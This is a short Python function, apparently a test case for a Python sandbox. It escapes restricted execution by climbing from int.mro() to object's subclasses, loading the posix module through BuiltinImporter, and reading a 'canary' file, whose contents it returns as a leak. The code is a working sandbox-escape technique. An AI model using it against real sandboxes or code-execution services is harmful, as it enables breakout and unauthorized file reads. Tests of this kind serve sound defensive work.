# route: the mro() method of a class, then __subclasses__ by getattr
def execute(testData):
    root = int.mro()[-1]
    classes = getattr(root, "__subclasses__")()
    loader = next(c for c in classes if c.__name__ == "BuiltinImporter")
    posix = getattr(loader, "load_module")("posix")
    fd = posix.open(testData["canary_path"], 0)
    return {"leak": posix.read(fd, 1000).decode()}
